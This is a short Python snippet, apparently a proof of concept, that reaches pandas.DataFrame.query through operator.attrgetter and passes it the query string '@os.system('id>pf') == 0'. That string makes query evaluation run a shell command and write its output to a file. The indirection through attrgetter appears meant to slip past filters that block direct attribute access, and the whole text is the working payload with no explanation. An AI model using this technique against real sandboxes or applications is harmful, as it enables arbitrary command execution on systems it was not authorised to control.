from operator import attrgetter as my_AG
import pandas as pd, os
my_AG('query')(my_AG('DataFrame')(pd)({'a': [1]}))("@os.system('id>pf') == 0")
